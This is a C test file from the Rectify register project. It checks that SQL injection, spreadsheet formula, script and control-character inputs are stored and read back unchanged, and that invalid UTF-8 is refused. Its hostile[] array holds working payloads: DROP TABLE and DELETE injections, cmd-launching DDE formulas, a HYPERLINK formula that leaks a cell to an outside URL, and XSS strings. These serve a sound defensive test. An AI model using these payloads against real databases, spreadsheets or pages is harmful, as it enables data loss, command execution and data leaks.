/* test-hostile.c
 *
 * Copyright 2026 The Rectify authors
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 *
 * Hostile text through the register's API (issue #9): SQL injection, spreadsheet formulas,
 * control characters, a 1 MB statement and full-text search syntax are stored and read back as
 * the very same text, change nothing else and break no search; bytes that are not UTF-8 are
 * refused with an error that names the field.
 *
 *   test-hostile                      the tests (TAP)
 *   test-hostile --write PATH         writes a register full of hostile text to PATH, for
 *                                     tests/test-hostile.py (rectify-cli list/show/export/
 *                                     fishbone)
 */

#include "config.h"

#include <glib/gstdio.h>
#include <sqlite3.h>
#include <string.h>

#include "rectify-register.h"

/* The hostile texts; each becomes an NC (title = text, and the text in the other fields). */
static const char * const hostile[] = {
  "'); DROP TABLE nonconformity; --",
  "Robert'); DELETE FROM history WHERE ('1'='1",
  "\" OR 1=1 -- ; SELECT * FROM sqlite_schema",
  "=cmd|' /C calc'!A0",
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Click me\")",
  "\tTab then =1+1",
  "Bell\a Escape\x1b[31mred\x1b[0m Backspace\b DEL\x7f C1\xc2\x9b""2J end",
  "<script>alert(1)</script> & <svg onload=\"alert(1)\"> ]]> &amp; \"quoted\"",
  "NEAR(audit review) title:access ^start prefix* -minus AND OR NOT \"phrase",
  "Line one\nLine two\r\nLine three\rafter a CR",
};

/* The fields of an NC that take free text; each is given a hostile text */
static const char * const nc_text_fields[] = {
  "title", "statement", "evidence", "area", "location", "reported-by", "owner", "correction",
};

typedef struct
{
  char            *dir;
  char            *path;
  RectifyRegister *reg;
} Fixture;

static void
fixture_setup (Fixture       *f,
               gconstpointer  data)
{
  g_autoptr(GError) error = NULL;

  f->dir = g_dir_make_tmp ("rectify-hostile-XXXXXX", &error);
  g_assert_no_error (error);
  f->path = g_build_filename (f->dir, "hostile.rectify", NULL);
  f->reg = rectify_register_create (f->path, &error);
  g_assert_no_error (error);
}

static void
fixture_teardown (Fixture       *f,
                  gconstpointer  data)
{
  g_autofree char *wal = g_strconcat (f->path, "-wal", NULL);
  g_autofree char *shm = g_strconcat (f->path, "-shm", NULL);

  g_clear_object (&f->reg);
  g_unlink (wal);
  g_unlink (shm);
  g_unlink (f->path);
  g_rmdir (f->dir);
  g_free (f->dir);
  g_free (f->path);
}

/* A statement of about 1 MB: words, a formula start and a word to search for at the end */
static char *
long_statement (void)
{
  GString *s = g_string_sized_new (1024 * 1024 + 64);

  g_string_append (s, "=1+1 ");
  while (s->len < 1024 * 1024)
    g_string_append (s, "lorem ipsum dolor sit amet ");
  g_string_append (s, "zyxwvutsend");

  return g_string_free (s, FALSE);
}

/* The text given to @field of NC number @i */
static const char *
text_for (guint       i,
          const char *field)
{
  guint f = 0;

  while (f < G_N_ELEMENTS (nc_text_fields) && strcmp (nc_text_fields[f], field) != 0)
    f++;

  return hostile[(i + f) % G_N_ELEMENTS (hostile)];
}

/* Fills @reg: an audit with a hostile title, one NC per hostile text (every text field hostile,
 * one with a hostile ref), causes and an action with hostile text, and an NC with a 1 MB
 * statement. */
static void
fill_register (RectifyRegister *reg,
               GPtrArray       *ncs)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(RectifyAudit) audit = rectify_audit_new ();
  g_autoptr(RectifyNonconformity) big = rectify_nonconformity_new ();
  g_autofree char *statement = long_statement ();

  g_object_set (audit, "title", hostile[7], "lead-auditor", hostile[3], "scope", hostile[9],
                NULL);
  rectify_register_add (reg, RECTIFY_ENTITY (audit), &error);
  g_assert_no_error (error);
  rectify_register_set_info (reg, "organisation", hostile[0], &error);
  g_assert_no_error (error);
  rectify_register_set_info (reg, "scope", hostile[4], &error);
  g_assert_no_error (error);

  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      g_autoptr(RectifyNonconformity) nc = rectify_nonconformity_new ();
      g_autoptr(RectifyAction) action = rectify_action_new ();

      for (guint f = 0; f < G_N_ELEMENTS (nc_text_fields); f++)
        g_object_set (nc, nc_text_fields[f], text_for (i, nc_text_fields[f]), NULL);
      g_object_set (nc, "audit-id", rectify_entity_get_id (RECTIFY_ENTITY (audit)),
                    "grade", RECTIFY_GRADE_MINOR, NULL);
      if (i == 3)
        g_object_set (nc, "ref", "=1+1", NULL);
      rectify_register_add (reg, RECTIFY_ENTITY (nc), &error);
      g_assert_no_error (error);

      /* a root cause and a child cause (the second in a category of its own) */
      for (guint c = 0; c < 2; c++)
        {
          g_autoptr(RectifyCause) cause = rectify_cause_new ();

          g_object_set (cause, "nc-id", rectify_entity_get_id (RECTIFY_ENTITY (nc)),
                        "category", c == 0 ? "method" : hostile[(i + 5) % G_N_ELEMENTS (hostile)],
                        "text", hostile[(i + c) % G_N_ELEMENTS (hostile)],
                        "is-root", c == 0, NULL);
          rectify_register_add (reg, RECTIFY_ENTITY (cause), &error);
          g_assert_no_error (error);
        }

      g_object_set (action, "title", hostile[(i + 2) % G_N_ELEMENTS (hostile)],
                    "owner", hostile[(i + 3) % G_N_ELEMENTS (hostile)],
                    "success-criterion", hostile[(i + 4) % G_N_ELEMENTS (hostile)],
                    "target-on", "2026-09-30", NULL);
      rectify_register_add (reg, RECTIFY_ENTITY (action), &error);
      g_assert_no_error (error);
      rectify_register_link_action (reg, nc, action, &error);
      g_assert_no_error (error);

      if (ncs != NULL)
        g_ptr_array_add (ncs, g_object_ref (nc));
    }

  g_object_set (big, "title", "One megabyte", "statement", statement,
                "audit-id", rectify_entity_get_id (RECTIFY_ENTITY (audit)), NULL);
  rectify_register_add (reg, RECTIFY_ENTITY (big), &error);
  g_assert_no_error (error);
  if (ncs != NULL)
    g_ptr_array_add (ncs, g_object_ref (big));
}

static gint64
count_rows (const char *path,
            const char *sql)
{
  g_autofree char *uri = g_strdup_printf ("file:%s?mode=ro", path);
  sqlite3_stmt *stmt = NULL;
  sqlite3 *db = NULL;
  gint64 n;

  g_assert_cmpint (sqlite3_open_v2 (uri, &db, SQLITE_OPEN_READONLY | SQLITE_OPEN_URI, NULL), ==,
                   SQLITE_OK);
  g_assert_cmpint (sqlite3_prepare_v2 (db, sql, -1, &stmt, NULL), ==, SQLITE_OK);
  g_assert_cmpint (sqlite3_step (stmt), ==, SQLITE_ROW);
  n = sqlite3_column_int64 (stmt, 0);
  sqlite3_finalize (stmt);
  sqlite3_close (db);

  return n;
}

/* Everything stored comes back the same, in memory and after the register is opened again;
 * no table was dropped, no history row deleted, and the register verifies. */
static void
test_round_trip (Fixture       *f,
                 gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GPtrArray) ncs = g_ptr_array_new_with_free_func (g_object_unref);
  g_autoptr(RectifyRegister) reopened = NULL;
  g_autofree char *statement = long_statement ();
  g_autofree char *organisation = NULL;
  gint64 n_tables = count_rows (f->path, "SELECT count(*) FROM sqlite_schema");
  gint64 n_history;

  fill_register (f->reg, ncs);
  n_history = count_rows (f->path, "SELECT count(*) FROM history");
  g_assert_cmpint (n_history, >, (gint64)G_N_ELEMENTS (hostile) * 4);
  g_clear_object (&f->reg);

  g_assert_cmpint (count_rows (f->path, "SELECT count(*) FROM sqlite_schema"), ==, n_tables);
  g_assert_cmpint (count_rows (f->path, "SELECT count(*) FROM nonconformity"), ==,
                   G_N_ELEMENTS (hostile) + 1);

  reopened = rectify_register_open (f->path, &error);
  g_assert_no_error (error);
  rectify_register_verify (reopened, &error);
  g_assert_no_error (error);

  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    {
      RectifyNonconformity *nc = rectify_register_lookup_nonconformity (
        reopened, rectify_entity_get_id (g_ptr_array_index (ncs, i)));

      g_assert_nonnull (nc);
      for (guint k = 0; k < G_N_ELEMENTS (nc_text_fields); k++)
        {
          g_autofree char *value = NULL;

          g_object_get (nc, nc_text_fields[k], &value, NULL);
          g_assert_cmpstr (value, ==, text_for (i, nc_text_fields[k]));
        }
    }
  g_assert_nonnull (rectify_register_find_nonconformity (reopened, "=1+1"));
  {
    RectifyNonconformity *big = rectify_register_lookup_nonconformity (
      reopened, rectify_entity_get_id (g_ptr_array_index (ncs, ncs->len - 1)));

    g_assert_cmpstr (rectify_nonconformity_get_statement (big), ==, statement);
  }
  organisation = rectify_register_get_info (reopened, "organisation");
  g_assert_cmpstr (organisation, ==, hostile[0]);
  g_assert_nonnull (rectify_register_find_audit (reopened, hostile[7]));
}

static gboolean
search_finds (RectifyRegister      *reg,
              const char           *text,
              RectifyNonconformity *nc)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(GArray) ids = rectify_register_search (reg, text, &error);

  g_assert_no_error (error);
  g_assert_nonnull (ids);

  for (guint i = 0; i < ids->len; i++)
    if (g_array_index (ids, gint64, i) == rectify_entity_get_id (RECTIFY_ENTITY (nc)))
      return TRUE;

  return FALSE;
}

/* Search text is words, never query syntax: every hostile text searches without an error, and
 * finds the NC it is the title of; the 1 MB statement is found by its last word. */
static void
test_search (Fixture       *f,
             gconstpointer  data)
{
  g_autoptr(GPtrArray) ncs = g_ptr_array_new_with_free_func (g_object_unref);

  fill_register (f->reg, ncs);

  for (guint i = 0; i < G_N_ELEMENTS (hostile); i++)
    g_assert_true (search_finds (f->reg, hostile[i], g_ptr_array_index (ncs, i)));

  g_assert_true (search_finds (f->reg, "zyxwvutsend", g_ptr_array_index (ncs, ncs->len - 1)));
  g_assert_true (search_finds (f->reg, "NEAR(audit", g_ptr_array_index (ncs, 11)));
  g_assert_false (search_finds (f->reg, "\" OR \"", g_ptr_array_index (ncs, ncs->len - 1)));
}

static void
assert_utf8_refused (GError     *error,
                     const char *field)
{
  g_autofree char *quoted = g_strdup_printf ("“%s”", field);

  g_assert_error (error, RECTIFY_REGISTER_ERROR, RECTIFY_REGISTER_ERROR_INVALID);
  g_assert_nonnull (strstr (error->message, "not valid UTF-8"));
  g_assert_nonnull (strstr (error->message, quoted));
  g_assert_true (g_utf8_validate (error->message, -1, NULL));
}

/* Bytes that are not UTF-8 are refused, naming the field; nothing is written. */
static void
test_invalid_utf8 (Fixture       *f,
                   gconstpointer  data)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(RectifyNonconformity) nc = rectify_nonconformity_new ();
  g_autoptr(RectifyNonconformity) bad = rectify_nonconformity_new ();
  g_autoptr(RectifyCause) cause = rectify_cause_new ();
  gint64 n_history;

  g_object_set (nc, "title", "Good", NULL);
  rectify_register_add (f->reg, RECTIFY_ENTITY (nc), &error);
  g_assert_no_error (error);
  n_history = count_rows (f->path, "SELECT count(*) FROM history");

  /* Latin-1 "Prüfung", a lone continuation byte, an overlong "/" */
  g_object_set (bad, "title", "Fine", "statement", "Pr\xfc" "fung", NULL);
  g_assert_false (rectify_register_add (f->reg, RECTIFY_ENTITY (bad), &error));
  assert_utf8_refused (error, "statement");
  g_clear_error (&error);
  g_assert_cmpint (rectify_entity_get_id (RECTIFY_ENTITY (bad)), ==, 0);

  g_assert_false (rectify_register_update_string (f->reg, RECTIFY_ENTITY (nc), "evidence",
                                                  "x\x80y", &error));
  assert_utf8_refused (error, "evidence");
  g_clear_error (&error);
  g_assert_cmpstr (rectify_nonconformity_get_evidence (nc), ==, NULL);

  g_object_set (cause, "nc-id", rectify_entity_get_id (RECTIFY_ENTITY (nc)),
                "text", "\xc0\xaf", NULL);
  g_assert_false (rectify_register_add (f->reg, RECTIFY_ENTITY (cause), &error));
  assert_utf8_refused (error, "text");
  g_clear_error (&error);

  g_assert_false (rectify_register_set_info (f->reg, "organisation", "ACME \xff", &error));
  assert_utf8_refused (error, "organisation");
  g_clear_error (&error);

  g_assert_false (rectify_register_record_approval (f->reg, nc, "management", "M\xe9lanie",
                                                    TRUE, "2026-06-01", NULL, NULL, &error));
  assert_utf8_refused (error, "approver");
  g_clear_error (&error);

  g_assert_cmpint (count_rows (f->path, "SELECT count(*) FROM history"), ==, n_history);
  g_assert_cmpint (count_rows (f->path, "SELECT count(*) FROM nonconformity"), ==, 1);
  g_assert_cmpint (count_rows (f->path, "SELECT count(*) FROM cause"), ==, 0);
  rectify_register_verify (f->reg, &error);
  g_assert_no_error (error);
}

/* --write PATH: the register for tests/test-hostile.py */
static int
write_register (const char *path)
{
  g_autoptr(GError) error = NULL;
  g_autoptr(RectifyRegister) reg = rectify_register_create (path, &error);
  g_autoptr(GPtrArray) ncs = g_ptr_array_new_with_free_func (g_object_unref);

  if (reg == NULL)
    {
      g_printerr ("%s\n", error->message);
      return 2;
    }

  fill_register (reg, ncs);

  return 0;
}

int
main (int   argc,
      char *argv[])
{
  if (argc == 3 && strcmp (argv[1], "--write") == 0)
    return write_register (argv[2]);

  g_test_init (&argc, &argv, NULL);

#define ADD(path, fn) \
  g_test_add ("/Rectify/Hostile/" path, Fixture, NULL, fixture_setup, fn, fixture_teardown)
  ADD ("round-trip", test_round_trip);
  ADD ("search", test_search);
  ADD ("invalid-utf8", test_invalid_utf8);
#undef ADD

  return g_test_run ();
}
